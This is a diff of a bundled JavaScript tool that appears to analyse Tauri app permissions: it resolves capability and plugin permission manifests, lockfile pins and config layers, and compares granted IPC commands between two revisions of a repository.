-  return list?.[1]?.match(/"(?:[^"\\]|\\.)*"/g)?.map((quoted2) => quoted2.slice(1, -1)) ?? (list ? [] : void 0);
-}
-function endOfCall(text, from) {
-  let depth = 0;
-  const furthest = Math.min(text.length, from + LONGEST_CALL);
-  for (let i = text.indexOf("(", from); i >= 0 && i < furthest; i += 1) {
-    if (text[i] === "(") depth += 1;
-    else if (text[i] === ")" && --depth === 0) return i + 1;
-  }
-  return furthest;
-}
-var LONGEST_CALL = 1e5;
 
 // src/readers/tauri-acl/manifest.ts
 function fromCatalogue(manifest2) {
@@ -54115,16 +50303,20 @@ function fromCatalogue(manifest2) {
       const declared = (values) => values.map((value) => ({ value, at: null }));
       const scoped = found2.scopeAllow.length > 0 || found2.scopeDeny.length > 0;
       return {
-        allow: found2.allow,
-        deny: found2.deny,
+        allow: found2.allow.filter(isCommand),
+        deny: found2.deny.filter(isCommand),
         scope: scoped ? { allow: declared(found2.scopeAllow), deny: declared(found2.scopeDeny) } : null,
         platforms: found2.platforms?.reduce((set2, name) => set2 | platformSet(name), NO_PLATFORM) ?? EVERY_PLATFORM,
         at: null
       };
     },
     set: (id) => released(manifest2.set(id)),
-    default: released(manifest2.default)
+    default: released(manifest2.default),
+    commands: released(manifest2.commands) ?? []
   };
+}
+function isCommand(name) {
+  return !name.includes("-");
 }
 function released(members2) {
   return members2?.map((name) => ({ name, at: null }));
@@ -54142,13 +50334,19 @@ function inferredPermission(id) {
 }
 
 // src/readers/tauri-acl/permission-files.ts
-function readPermissionFiles(files, commands = []) {
+function readPermissionFiles(files, commands = [], lists = false) {
   const gaps2 = [];
   const permissions = /* @__PURE__ */ new Map();
   const sets = /* @__PURE__ */ new Map();
   let defaultSet;
-  for (const command2 of commands) addCommand(permissions, command2);
-  for (const file2 of [...files].sort((a, b) => compareText(a.path, b.path))) {
+  const listed = [];
+  const inOrder2 = [...files].sort((a, b) => compareText(a.path, b.path));
+  for (const file2 of lists ? inOrder2 : []) {
+    const parsed4 = parseFile(file2);
+    if (parsed4.ok) listed.push(...members(member(parsed4.value, "commands")));
+  }
+  for (const command2 of [...commands, ...listed]) addCommand(permissions, command2);
+  for (const file2 of inOrder2) {
     const parsed4 = parseFile(file2);
     if (!parsed4.ok) {
       gaps2.push(gapAt(parsed4.at, "unparsed", `This permission file can't be read: ${parsed4.message}`));
@@ -54180,7 +50378,12 @@ function readPermissionFiles(files, commands = []) {
     if (root.kind !== "object") wrong(root.at, `${code(file2.path)} holds no table of permissions`);
   }
   return {
-    manifest: { permission: (id) => permissions.get(id), set: (id) => sets.get(id), default: defaultSet },
+    manifest: {
+      permission: (id) => permissions.get(id),
+      set: (id) => sets.get(id),
+      default: defaultSet,
+      commands: [...commands, ...listed]
+    },
     empty: permissions.size === 0 && sets.size === 0 && defaultSet === void 0,
     gaps: gaps2
   };
@@ -54211,22 +50414,10 @@ function withGenerated(commands, named2, effect) {
   const missing = named2?.effect === effect && !commands.some((command2) => slugOf(command2) === slugOf(named2.command));
   return missing && named2 !== void 0 ? [...commands, named2.command] : commands;
 }
-function addCommand(permissions, command2) {
-  const platforms = platformsFrom(void 0, () => void 0);
-  permissions.set(`allow-${slugOf(command2)}`, {
-    allow: [command2],
-    deny: [],
-    scope: null,
-    platforms,
-    at: null
-  });
-  permissions.set(`deny-${slugOf(command2)}`, {
-    allow: [],
-    deny: [command2],
-    scope: null,
-    platforms,
-    at: null
-  });
+function addCommand(permissions, { name, at }) {
+  const common = { scope: null, platforms: EVERY_PLATFORM, at };
+  permissions.set(`allow-${slugOf(name)}`, { allow: [name], deny: [], ...common });
+  permissions.set(`deny-${slugOf(name)}`, { allow: [], deny: [name], ...common });
 }
 function slugOf(command2) {
   return command2.replaceAll("_", "-");
@@ -54239,40 +50430,29 @@ function members(list) {
 }
 
 // src/readers/tauri-acl/manifests.ts
-function manifestsOf(project) {
+function manifestsOf(project, script, facts) {
   const files = [...project.files.values()];
-  const script = buildScriptOf(project);
-  const inlined = [...script.plugins.keys()];
-  const ownFiles = files.filter((file2) => isAppPermissionFile(file2.path, project.location));
-  const filesOfInlined = (name) => {
-    const folder = inFolder(project.location.root, `permissions/${name}`);
-    return ownFiles.filter((file2) => below2(folder, file2.path) !== void 0);
-  };
-  const taken2 = new Set(inlined.flatMap(filesOfInlined));
-  const appFiles = ownFiles.filter((file2) => !taken2.has(file2));
-  const app = readPermissionFiles(appFiles, script.appCommands);
-  const gaps2 = [...script.gaps, ...app.gaps];
+  const own = ownFiles(project, script);
+  const lists = isTauri3(project);
+  const app = readPermissionFiles(own.app, script.app.commands, lists);
+  const gaps2 = [...own.gaps, ...app.gaps];
   const inTree = /* @__PURE__ */ new Map();
   for (const [key, itsFiles] of pluginFiles(files, project)) {
-    const read2 = readPermissionFiles(itsFiles);
+    const read2 = readPermissionFiles(itsFiles, [], lists);
     for (const gap of read2.gaps) gaps2.push(gap);
     inTree.set(key, read2.manifest);
   }
-  for (const [name, { commands, allowsAll }] of script.plugins) {
-    const read2 = readPermissionFiles(filesOfInlined(name), commands);
+  for (const [name, { commands, default: given }] of script.plugins) {
+    const read2 = readPermissionFiles(own.inlined.get(name) ?? [], commands, lists);
     for (const gap of read2.gaps) gaps2.push(gap);
-    const all = commands.map((command2) => ({ name: `allow-${command2.replaceAll("_", "-")}`, at: null }));
-    inTree.set(
-      name,
-      allowsAll && read2.manifest.default === void 0 ? { ...read2.manifest, default: all } : read2.manifest
-    );
+    inTree.set(name, { ...read2.manifest, default: read2.manifest.default ?? given });
   }
   const known = /* @__PURE__ */ new Map([["", { how: "known", manifest: app.manifest }]]);
   return {
     of(key) {
       const before = known.get(key);
       if (before !== void 0) return before;
-      const answer = find(key, project, inTree);
+      const answer = find(key, project, inTree, facts);
       known.set(key, answer);
       return answer;
     },
@@ -54280,28 +50460,73 @@ function manifestsOf(project) {
     pinnedAt: (key) => key === "" ? null : project.locked(crateOf(key))?.at ?? null,
     release(key) {
       const locked = project.locked(crateOf(key));
-      const pinned = locked?.source === "registry" && !locked.assumed && !inTree.has(key);
-      return pinned ? `${crateOf(key)} ${locked.version}` : null;
+      if (locked?.source == null || locked.assumed || inTree.has(key)) return null;
+      const { source, version } = locked;
+      const isFixed = source === "registry" || /^git .+#[0-9a-f]{40}$/.test(source);
+      return isFixed ? `${crateOf(key)} ${version} ${source}` : null;
     },
     appHasManifest: !app.empty,
+    wildcards: lists,
     gaps: gaps2
   };
 }
 function crateOf(key) {
   return isCoreKey(key) ? "tauri" : `tauri-plugin-${key}`;
 }
-function find(key, project, inTree) {
+function find(key, project, inTree, facts) {
   const local = inTree.get(key);
   if (local !== void 0) return { how: "in-tree", manifest: local };
   const locked = project.locked(crateOf(key));
   const isNamed = locked !== void 0 && !(locked.assumed && locked.source === "path");
   const version = isNamed ? locked.version : newestKnown(key);
   const answer = version === void 0 ? void 0 : lookUpPermissions(key, version, locked?.assumed === false ? "exact" : "at-least");
-  if (version === void 0 || answer === void 0) return { how: "unknown" };
+  if (version === void 0 || answer === void 0)
+    return releasedManifest(key, project, facts) ?? { how: "unknown" };
   const manifest2 = fromCatalogue(answer.manifest);
   const isOwn = locked?.source === "path" && !isCoreKey(key);
-  const certain = answer.assumed === null && locked !== void 0 && !locked.assumed && !isOwn;
-  return certain ? { how: "known", manifest: manifest2 } : { how: "assumed", manifest: manifest2, from: answer.assumed ?? version, version, isOwn };
+  const isGit = locked?.source?.startsWith("git ") === true;
+  const instead = isOwn ? "own" : isGit ? "git" : isNamed ? "release" : "newest";
+  const isPinned = locked !== void 0 && !locked.assumed;
+  const certain = answer.assumed === null && isPinned && instead === "release";
+  const released2 = certain ? void 0 : releasedManifest(key, project, facts);
+  if (released2 !== void 0) return released2;
+  return certain ? { how: "known", manifest: manifest2 } : { how: "assumed", manifest: manifest2, from: answer.assumed ?? version, version, instead };
+}
+function releasedManifest(key, project, facts) {
+  const need = neededFor(key, project);
+  const fact = need && facts.crate(need);
+  if (fact === void 0 || isUnknown(fact) || fact.plugin === void 0) return void 0;
+  const at = project.locked(crateOf(key))?.at ?? null;
+  const files = fact.plugin.files.map(({ path, text }) => ({ path, text, id: need?.checksum ?? "" }));
+  const commands = (fact.plugin.commands ?? []).map((name) => ({ name, at }));
+  const { manifest: manifest2, gaps: gaps2 } = readPermissionFiles(files, commands, isTauri3(project));
+  if (gaps2.length > 0) return void 0;
+  return { how: fact.plugin.commands === null ? "in-tree" : "known", manifest: pinnedBy(manifest2, at) };
+}
+function pinnedBy(manifest2, at) {
+  const placed = (members2) => members2?.map(({ name }) => ({ name, at }));
+  return {
+    permission(id) {
+      const found2 = manifest2.permission(id);
+      const entries = (list) => list.map(({ value }) => ({ value, at: null }));
+      return found2 && {
+        ...found2,
+        scope: found2.scope && { allow: entries(found2.scope.allow), deny: entries(found2.scope.deny) },
+        at
+      };
+    },
+    set: (id) => placed(manifest2.set(id)),
+    default: placed(manifest2.default),
+    commands: placed(manifest2.commands) ?? []
+  };
+}
+function neededFor(key, project) {
+  const locked = isCoreKey(key) || key === "" ? void 0 : project.locked(crateOf(key));
+  if (locked === void 0 || locked.checksum === null || !locked.source?.startsWith("registry"))
+    return void 0;
+  const registry = locked.source === "registry" ? null : locked.source.slice("registry ".length);
+  const { version, checksum } = locked;
+  return { kind: "crate", name: crateOf(key), version, checksum, registry };
 }
 function pluginFiles(files, project) {
   const byPlugin = /* @__PURE__ */ new Map();
@@ -54323,14 +50548,6 @@ function pluginFiles(files, project) {
     if (its !== void 0) chosen.set(key, its);
   }
   return chosen;
-}
-function buildScriptOf(project) {
-  const named2 = pick(project.manifest, "package", "build");
-  const name = asString(named2)?.replace(/^\.\//, "") ?? "build.rs";
-  const script = readBuildScript(project.files.get(inFolder(project.location.root, name)));
-  if (named2 === void 0 || !name.includes("/")) return script;
-  const message = `The app's build script is ${code(name)}, which is not read: what it declares of commands and capabilities is not known.`;
-  return { ...script, gaps: [...script.gaps, gapAt(named2.at, "dynamic", message)] };
 }
 
 // src/readers/tauri-acl/scope-matching.ts
@@ -54397,7 +50614,7 @@ var ANY_PAGE = { kind: "any" };
 var MOST_GRANTS = 2e4;
 var MOST_LEAVES = 5e3;
 var DEEPEST_SET = 64;
-var NO_IDENTIFIER = /[^a-z0-9:-]/;
+var NO_IDENTIFIER = /[^A-Za-z0-9:*-]/;
 var MOST_STEPS = 2e4;
 function resolve3(active, manifests, settings, platforms, deniesByOrigin2) {
   const grants = [];
@@ -54414,6 +50631,7 @@ function resolve3(active, manifests, settings, platforms, deniesByOrigin2) {
         gaps2.push(gapAt(entry.at, "truncated", message));
         return { grants, gaps: gaps2 };
       }
+      const before = grants.length;
       for (const leaf of leavesOf(entry, manifests, gaps2)) {
         order += 1;
         const on2 = where & platforms & leaf.permission.platforms;
@@ -54437,6 +50655,7 @@ function resolve3(active, manifests, settings, platforms, deniesByOrigin2) {
           inferred: leaf.inferred
         };
         const { allow: allow2, deny } = leaf.permission;
+        const each = (commands) => commandsOf2(commands, leaf.key, manifests);
         const called = (command2) => ({
           command: commandKey(leaf.key, command2),
           matching: matchingOf(leaf.key, command2, settings)
@@ -54449,16 +50668,54 @@ function resolve3(active, manifests, settings, platforms, deniesByOrigin2) {
           continue;
         }
         for (const context3 of contexts) {
-          for (const command2 of allow2)
-            grants.push({ ...common, effect: "allow", context: context3, ...called(command2) });
+          for (const { name, at } of each(allow2))
+            grants.push({ ...common, ...at, effect: "allow", context: context3, ...called(name) });
         }
         for (const context3 of deniesByOrigin2 ? contexts : contexts.slice(0, 1).map(() => ANY_PAGE)) {
-          for (const command2 of deny) grants.push({ ...common, effect: "deny", context: context3, ...called(command2) });
+          for (const { name, at } of each(deny))
+            grants.push({ ...common, ...at, effect: "deny", context: context3, ...called(name) });
         }
       }
+      if (grants.length === before) grants.push(emptyGrant(capability, entry, where & platforms));
     }
   }
   return { grants, gaps: gaps2 };
+}
+function emptyGrant(capability, entry, platforms) {
+  return {
+    domain: "ipc",
+    effect: "scope",
+    platforms,
+    windows: [],
+    webviews: [],
+    context: { kind: "local" },
+    plugin: entry.id.slice(0, Math.max(0, entry.id.lastIndexOf(":"))),
+    command: "",
+    scope: { allow: [], deny: [] },
+    matching: { kind: "none" },
+    capability: capability.identifier,
+    permission: entry.id,
+    leaf: "",
+    order: 0,
+    at: entry.at,
+    definedAt: null,
+    steps: [],
+    platformsAt: null,
+    inferred: false
+  };
+}
+function commandsOf2(names2, key, manifests) {
+  return names2.flatMap((name) => {
+    if (name !== "*") return [{ name, at: null }];
+    if (!manifests.wildcards) return [];
+    const known = manifests.of(key);
+    const declared = known.how === "unknown" ? [] : known.manifest.commands;
+    if (declared.length === 0) return [{ name, at: null }];
+    return declared.map((command2) => ({
+      name: command2.name,
+      at: command2.at === null ? null : { definedAt: command2.at }
+    }));
+  });
 }
 function commandKey(key, command2) {
   return key === "" ? command2 : `plugin:${key.replace(/^core:/, "")}|${command2}`;
@@ -54484,7 +50741,7 @@ function leavesOf(entry, manifests, gaps2) {
     if (said2.has(message)) return;
     said2.add(message);
     const gap = gapAt(entry.at, "unknown-plugin", message);
-    gaps2.push(release === null ? gap : { ...gap, release });
+    gaps2.push(release === null ? gap : { ...gap, rests: release });
   };
   const refuse = (reference, why2) => {
     say2(
@@ -54503,7 +50760,7 @@ function leavesOf(entry, manifests, gaps2) {
       );
       return;
     }
-    const [key, id] = split(reference, home, manifests);
+    const [key, id] = split2(reference, home, manifests);
     const path = `${key}:${id}`;
     const known = manifests.of(key);
     if (known.how === "unknown") {
@@ -54516,7 +50773,9 @@ function leavesOf(entry, manifests, gaps2) {
     }
     const { manifest: manifest2 } = known;
     if (known.how === "assumed") {
-      say2(known.isOwn ? "unknown-plugin" : "assumed-version", assumption(crateOf(key), known), known.isOwn);
+      if (known.instead === "release" || known.instead === "newest")
+        say2("assumed-version", assumption(crateOf(key), known), false);
+      else sayUnknown(manifests.release(key), assumption(crateOf(key), known));
     }
     if (key === "" && id === "default" && !manifests.appHasManifest) {
       refuse(reference, "is not declared by the app");
@@ -54538,7 +50797,7 @@ function leavesOf(entry, manifests, gaps2) {
       }
       return;
     }
-    const permission2 = manifest2.permission(id);
+    const permission2 = manifest2.permission(id) ?? wildcard(key, id, manifest2);
     const generated = known.how === "in-tree" && /^(?:allow|deny)-./.test(id);
     if (permission2 !== void 0) leaves.push({ key, id, permission: permission2, inferred: false, steps });
     else if (generated) leaves.push({ key, id, permission: inferredPermission(id), inferred: false, steps });
@@ -54554,16 +50813,27 @@ function leavesOf(entry, manifests, gaps2) {
         key === "" ? "is not declared by the app" : `is none of the plugin ${code(key)} at this version`
       );
   }
+  function wildcard(key, id, { commands }) {
+    const [, effect] = /^(allow|deny)-\*$/.exec(id) ?? [];
+    const isThere2 = manifests.wildcards && key === "" && commands.length > 0;
+    if (effect === void 0 || !isThere2) return void 0;
+    const [allow2, deny] = effect === "allow" ? [["*"], []] : [[], ["*"]];
+    return { ...inferredPermission(id), allow: allow2, deny };
+  }
 }
-function assumption(crate, { from, version, isOwn }) {
-  if (isOwn)
+function assumption(crate, { from, version, instead }) {
+  if (instead === "git")
+    return `${code(crate)} comes from a commit in git, whose permission files are not here: what it allows is not known for sure. The permissions of the release ${from} were used.`;
+  if (instead === "own")
     return `${code(crate)} is a crate of this repository and its permission files are not here: what it allows is not known. The permissions of the release ${from} were used.`;
+  if (instead === "newest")
+    return `Nothing says which version of ${code(crate)} the app uses: the permissions of ${from}, the newest that is known, were used. Commit Cargo.lock.`;
   return from === version ? `No lockfile pins ${code(crate)}: its permissions are taken to be those of ${version}, the lowest version that fits.` : `The permissions of ${code(crate)} ${version} are not known; those of ${from} were used.`;
 }
 function membersOf(manifest2, id, inSet) {
   return inSet && manifest2.permission(id) !== void 0 ? void 0 : manifest2.set(id);
 }
-function split(reference, home, manifests) {
+function split2(reference, home, manifests) {
   const colon = reference.lastIndexOf(":");
   const prefix = colon < 0 ? "" : reference.slice(0, colon);
   const name = reference.slice(colon + 1);
@@ -54575,13 +50845,19 @@ function split(reference, home, manifests) {
 var tauriAcl = {
   id: "tauri-acl",
   layered: true,
-  wants: (path, app) => isCapabilityFile(path, app) || isAppPermissionFile(path, app) || mayBeBuildScript(path, app) || pluginOfPermissionFile(path, app) !== void 0,
-  read(project) {
+  wants: (path, app) => isCapabilityFile(path, app) || isAppPermissionFile(path, app) || mayBeBuildScript(path, app) || isEntryPoint(path, app.root) || pluginOfPermissionFile(path, app) !== void 0,
+  follows(project, isChanged) {
+    const isNamed = namedInRust(project, buildScriptOf(project));
+    return (path) => isNamed(path) || isRustOfApp(path, project.location.root) && isChanged(path);
+  },
+  needs: (base, head) => [base, head].flatMap((project) => project === null ? [] : unknownPlugins(project)),
+  read(project, facts) {
     if (project.major !== 2) return { grants: [], gaps: [] };
-    const manifests = manifestsOf(project);
-    const { active, gaps: capabilityGaps } = activeCapabilities(project);
+    const script = buildScriptOf(project);
+    const manifests = manifestsOf(project, script, facts);
+    const { active, gaps: capabilityGaps } = activeCapabilities(project, script);
     const grants = manifests.appHasManifest ? [] : openAppCommands(project);
-    const gaps2 = [...manifests.gaps, ...capabilityGaps];
+    const gaps2 = [...script.gaps, ...manifests.gaps, ...capabilityGaps];
     for (const [settings, platforms] of settingsByPlatform(project)) {
       const resolved = resolve3(active, manifests, settings, platforms, deniesByOrigin(project));
       for (const grant of resolved.grants) grants.push(grant);
@@ -54590,6 +50866,16 @@ var tauriAcl = {
     return { grants, gaps: onceEach(gaps2) };
   }
 };
+function unknownPlugins(project) {
+  if (project.major !== 2) return [];
+  const script = buildScriptOf(project);
+  const manifests = manifestsOf(project, script, offlineFacts());
+  const named2 = activeCapabilities(project, script).active.flatMap(
+    ({ capability }) => capability.permissions
+  );
+  const keys = new Set(named2.map(({ id }) => id.slice(0, Math.max(0, id.lastIndexOf(":")))));
+  return [...keys].filter((key) => ["unknown", "assumed"].includes(manifests.of(key).how)).flatMap((key) => neededFor(key, project) ?? []);
+}
 function deniesByOrigin(project) {
   const tauri = project.locked("tauri");
   return tauri === void 0 || tauri.assumed || !isBefore(tauri.version, "2.12.0");
@@ -54597,7 +50883,7 @@ function deniesByOrigin(project) {
 function onceEach(gaps2) {
   const said2 = /* @__PURE__ */ new Map();
   for (const gap of gaps2) {
-    const isAssumption = gap.kind === "assumed-version" || gap.kind === "unknown-plugin" && !gap.release;
+    const isAssumption = gap.kind === "assumed-version" || gap.kind === "unknown-plugin" && !gap.rests;
     const name = isAssumption ? gap.message : JSON.stringify(gap);
     if (!said2.has(name)) said2.set(name, gap);
   }
@@ -54773,8 +51059,8 @@ function membersOf2(value) {
   return [...value.entries].map(([name, member2]) => [camelCase(name), member2]);
 }
 function camelCase(name) {
-  const joined3 = name.replace(/-([a-z])/g, (_, letter) => letter.toUpperCase());
-  return joined3 === "relaunchDangerousAllowSymlinkMacOS" ? "relaunchDangerousAllowSymlinkMacos" : joined3;
+  const joined4 = name.replace(/-([a-z])/g, (_, letter) => letter.toUpperCase());
+  return joined4 === "relaunchDangerousAllowSymlinkMacOS" ? "relaunchDangerousAllowSymlinkMacos" : joined4;
 }
 function isRightFor(name, { kind }) {
   if (name.endsWith(".scope") || name.endsWith("Scope")) {
@@ -54959,7 +51245,7 @@ function readPlatform2(project, platform2) {
       allow(everyWindow, appCommands(top2)),
       ...api.map((each) => allow(everyWindow, each)),
       ...pluginCrates(project).map(
-        ({ name, crate, at }) => allow(everyWindow, pluginCommands(name, crate, at))
+        ({ name, crate, at }) => allow(everyWindow, pluginCommands2(name, crate, at))
       ),
       ...remote.sites.flatMap(({ url, windows: windows2, plugins, api: opened }) => {
         const pages = (at) => ({
@@ -54969,7 +51255,7 @@ function readPlatform2(project, platform2) {
         return [
           allow(pages(url.at), appCommands(url.at)),
           ...plugins.map(
-            ({ value, at }) => allow(pages(at), pluginCommands(value, "dangerousRemoteDomainIpcAccess", at))
+            ({ value, at }) => allow(pages(at), pluginCommands2(value, "dangerousRemoteDomainIpcAccess", at))
           ),
           ...opened === void 0 ? [] : api.map((each) => allow(pages(opened.at), each))
         ];
@@ -55007,7 +51293,7 @@ function openAccepts(allowlist) {
 function appCommands(at) {
   return { command: "*", permission: "", at, matching: { kind: "opaque", empty: "everything" } };
 }
-function pluginCommands(name, permission2, at) {
+function pluginCommands2(name, permission2, at) {
   return { command: `plugin:${name}|*`, permission: permission2, at, matching: { kind: "none" } };
 }
 function allow({ windows: windows2, context: context3 }, { command: command2, permission: permission2, at, matching }) {
@@ -55075,6 +51361,100 @@ function onAllPlatforms(project) {
 // src/readers/index.ts
 var readers = [cargoLock, csp, npmLock, tauriAcl, tauriAllowlist, tauriConfig];
 
+// src/tauri/config-arguments.ts
+function mayStartBuilds(path, app) {
+  if (/^\.github\/workflows\/[^/]+\.ya?ml$/.test(path)) return true;
+  const [folder, name] = [folderOf(path), baseName(path)];
+  const near = withAncestors(app.root);
+  if (/^(?:package\.json|GNUmakefile|[Mm]akefile|[Jj]ustfile|\.justfile|Taskfile\.ya?ml)$/.test(name))
+    return near.includes(folder);
+  return /\.(?:sh|bash|ps1)$/.test(name) && near.some((each) => [each, inFolder(each, "scripts")].includes(folder));
+}
+function configuredBuilds(app, files) {
+  const found2 = /* @__PURE__ */ new Map();
+  for (const file2 of files.values()) {
+    if (!mayStartBuilds(file2.path, app)) continue;
+    for (const [i, command2] of commandsIn(file2).entries()) {
+      const layers = layersOf(command2, file2, app, files);
+      if (layers.length === 0) continue;
+      const key = layers.map((layer) => layer.inline ? `${command2.shown} ${i}` : relative(layer.file.path, app)).join(" ");
+      const name = layers.map(
+        (layer) => layer.inline ? excerpt(layer.file.text) : relative(layer.file.path, app)
+      );
+      if (!found2.has(key)) found2.set(key, { key, name: name.join(" --config "), layers });
+    }
+  }
+  return [...found2.values()];
+}
+function namedConfigs(app, files) {
+  const starting = [...files.values()].filter(({ path }) => mayStartBuilds(path, app));
+  return new Set(
+    starting.flatMap(
+      (file2) => commandsIn(file2).flatMap(
+        ({ text }) => [...text.matchAll(ARGUMENT)].flatMap(([, value = ""]) => placesOf2(unquoted(value), file2, app))
+      )
+    )
+  );
+}
+var LONGEST_COMMAND = 2e4;
+function commandsIn(file2) {
+  if (!/--config|TAURI_CONFIG|\s-c\s/.test(file2.text)) return [];
+  return baseName(file2.path) === "package.json" ? packageScripts(file2) : lines(file2);
+}
+function packageScripts(file2) {
+  const parsed4 = parseFile(file2);
+  const scripts = parsed4.ok ? member(parsed4.value, "scripts") : void 0;
+  if (scripts?.kind !== "object") return [];
+  return [...scripts.entries].flatMap(
+    ([name, { value }]) => value.kind === "string" ? [{ text: value.value, line: value.at.line, shown: `npm run ${name}` }] : []
+  );
+}
+function lines({ path, text }) {
+  const commands = [];
+  let line = 1;
+  for (const whole of text.split(/(?<![\\`])\r?\n/)) {
+    commands.push({ text: whole.slice(0, LONGEST_COMMAND), line, shown: path });
+    line += whole.split("\n").length;
+  }
+  return commands;
+}
+var QUOTED = /'[^'\n]*'|"(?:[^"\\]|\\.)*"|[^\s'"`;|&)]+/.source;
+var ARGUMENT = new RegExp(`(?:\\s--config|\\s-c|\\bTAURI_CONFIG)\\s*[=:\\s]\\s*(${QUOTED})`, "g");
+function layersOf({ text, line }, script, app, files) {
+  return [...text.matchAll(ARGUMENT)].flatMap(({ 0: whole, 1: raw = "", index }) => {
+    const value = unquoted(raw);
+    if (value.startsWith("{")) {
+      const above = line - 1 + text.slice(0, index).split("\n").length - 1;
+      const isTauri = /tauri/i.test(text) || whole.includes("TAURI_CONFIG");
+      return isTauri ? [{ file: { ...script, text: "\n".repeat(above) + value }, inline: true }] : [];
+    }
+    const place = placesOf2(value, script, app).find((each) => files.has(each));
+    const file2 = place === void 0 ? void 0 : files.get(place);
+    return file2 === void 0 || file2.path === app.config ? [] : [{ file: file2, inline: false }];
+  });
+}
+function placesOf2(value, file2, app) {
+  if (!/\.(?:json5?|toml)$/.test(value)) return [];
+  const parent = folderOf(app.root);
+  return [folderOf(file2.path), app.root, parent, ""].flatMap((folder) => {
+    const place = joined(folder, value);
+    const isNear = place !== null && (/tauri|\.conf\./i.test(place) || folderOf(place) === app.root);
+    return isNear && place !== null ? [place] : [];
+  });
+}
+function relative(path, app) {
+  return below2(app.root, path) ?? path;
+}
+var LONGEST_NAME3 = 60;
+function excerpt(text) {
+  const plain6 = text.trim().replace(/\s+/g, " ");
+  return `'${plain6.length > LONGEST_NAME3 ? `${plain6.slice(0, LONGEST_NAME3)}…` : plain6}'`;
+}
+function unquoted(text) {
+  if (text.startsWith("'")) return text.slice(1, -1);
+  return text.startsWith('"') ? text.slice(1, -1).replace(/\\(["\\$`])/g, "$1") : text;
+}
+
 // src/tauri/merge-patch.ts
 function mergePatch(target, patch) {
   if (patch.kind !== "object") return patch;
@@ -55099,17 +51479,26 @@ function isConfigLayer(path, app) {
 function isPlatformOverlay(path) {
   return PLATFORMS.some((platform2) => overlayNames(platform2).includes(baseName(path)));
 }
-function extraLayers(app, files) {
-  return [...files.values()].filter(
-    (file2) => folderOf(file2.path) === app.root && file2.path !== app.config && !isPlatformOverlay(file2.path) && !OTHER_CONFIGS.has(baseName(file2.path)) && EXTRA_LAYER.test(baseName(file2.path))
+function extraBuilds(app, files) {
+  const started = configuredBuilds(app, files);
+  const known = new Set(started.map(({ key }) => key));
+  const beside = [...files.values()].filter(
+    ({ path }) => folderOf(path) === app.root && path !== app.config && !isPlatformOverlay(path) && !OTHER_CONFIGS.has(baseName(path)) && EXTRA_LAYER.test(baseName(path))
   );
+  return [
+    ...started,
+    ...beside.flatMap((file2) => {
+      const key = baseName(file2.path);
+      return known.has(key) ? [] : [{ key, name: key, layers: [{ file: file2, inline: false }] }];
+    })
+  ];
 }
 var OTHER_CONFIGS = /* @__PURE__ */ new Set(["tauri.conf.json", "tauri.conf.json5", "Tauri.toml"]);
 function configLayers(app, files, json5, extra) {
   const gaps2 = [];
-  const read2 = (file2) => {
+  const read2 = (file2, inline = false) => {
     if (file2 === void 0) return void 0;
-    const parsed4 = parseFile(file2, { json5 });
+    const parsed4 = inline ? parseJson(file2, "json5") : parseFile(file2, { json5 });
     if (parsed4.ok) return parsed4.value;
     gaps2.push(
       gapAt(
@@ -55121,11 +51510,11 @@ function configLayers(app, files, json5, extra) {
     return void 0;
   };
   const base = read2(files.get(app.config)) ?? emptyConfig(app.config);
-  const last2 = read2(extra ?? void 0);
+  const last2 = extra.map(({ file: file2, inline }) => read2(file2, inline));
   const of = /* @__PURE__ */ new Map();
   for (const platform2 of PLATFORMS) {
     const overlay = overlayNames(platform2).map((name) => files.get(inFolder(app.root, name))).find((file2) => file2 !== void 0);
-    const patches = [read2(overlay), last2].filter((patch) => patch !== void 0);
+    const patches = [read2(overlay), ...last2].filter((patch) => patch !== void 0);
     of.set(platform2, patches.reduce(mergePatch, base));
   }
   return { of, gaps: gaps2 };
@@ -55136,11 +51525,15 @@ function emptyConfig(path) {
 
 // src/tauri/load-project.ts
 function projectWants(path, app) {
-  if (isConfigLayer(path, app)) return true;
+  if (isConfigLayer(path, app) || mayStartBuilds(path, app)) return true;
   const name = baseName(path);
   return (name === "Cargo.toml" || name === "Cargo.lock") && withAncestors(app.root).includes(folderOf(path));
 }
-function loadProject(location2, files, extra = null) {
+function projectFollows(app, files) {
+  const named2 = namedConfigs(app, files);
+  return (path) => named2.has(path);
+}
+function loadProject(location2, files, extra = []) {
   const manifestFile = files.get(inFolder(location2.root, "Cargo.toml"));
   const manifestParsed = manifestFile && parseFile(manifestFile);
   const manifest2 = manifestParsed?.ok ? manifestParsed.value : void 0;
@@ -55176,8 +51569,62 @@ function distinct(gaps2) {
   return [...new Map(gaps2.map((gap) => [JSON.stringify(gap), gap])).values()];
 }
 
+// src/engine/read-files.ts
+async function readBothSides(base, head, wantedOfBase, wantedOfHead) {
+  const shared = /* @__PURE__ */ new Map();
+  const fromHead = await readSide(head, wantedOfHead, shared);
+  const fromBase = await readSide(base, wantedOfBase, shared);
+  return { base: fromBase, head: fromHead };
+}
+async function readSide(tree, wanted, shared) {
+  const gaps2 = [];
+  const files = /* @__PURE__ */ new Map();
+  const missing = [];
+  let bytes = 0;
+  for (const entry of wanted) {
+    const known = shared.get(keyOf3(entry));
+    bytes += entry.size;
+    if (known !== void 0) files.set(entry.path, known);
+    else if (entry.size > TREE_LIMITS.fileBytes || bytes > TREE_LIMITS.totalBytes) {
+      gaps2.push(
+        gapIn(
+          entry.path,
+          "truncated",
+          `${code(entry.path)} is larger than what is read; nothing in it was compared.`
+        )
+      );
+    } else missing.push(entry);
+  }
+  const blobs = missing.length === 0 ? /* @__PURE__ */ new Map() : await tree.read(missing);
+  for (const entry of missing) {
+    const bytesOfFile = blobs.get(entry.id);
+    const text = bytesOfFile && (entry.path.endsWith(".lockb") ? "" : decode(bytesOfFile));
+    if (text === void 0)
+      gaps2.push(gapIn(entry.path, "unreadable", unreadable(entry.path, bytesOfFile !== void 0)));
+    else {
+      const file2 = { path: entry.path, id: entry.id, text };
+      shared.set(keyOf3(entry), file2);
+      files.set(entry.path, file2);
+    }
+  }
+  return { files, gaps: gaps2 };
+}
+function keyOf3({ path, id }) {
+  return `${id}\0${path}`;
+}
+function unreadable(path, present) {
+  return present ? `${code(path)} is not UTF-8 text, so Tauri can't read it either.` : `${code(path)} could not be read from the repository.`;
+}
+function decode(bytes) {
+  try {
+    return new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes);
+  } catch {
+    return void 0;
+  }
+}
+
 // src/engine/wanted.ts
-var OF_USE = /\.(?:json5?|toml|rs|html?|lock|lockb|ya?ml|npmrc)$/i;
